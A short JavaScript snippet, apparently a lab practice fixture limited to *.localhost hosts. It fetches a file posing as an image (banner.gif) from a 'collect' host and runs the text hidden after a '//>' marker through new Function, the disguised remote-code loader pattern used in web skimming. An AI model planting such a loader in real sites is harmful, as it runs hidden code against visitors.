/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const home = `${location.protocol}//collect.localhost:${location.port}`;
  fetch(`${home}/img/banner.gif`)
    .then((answer) => answer.text())
    .then((text) => new Function(text.slice(text.indexOf('//>') + 3))())
    .catch(() => {});
})();
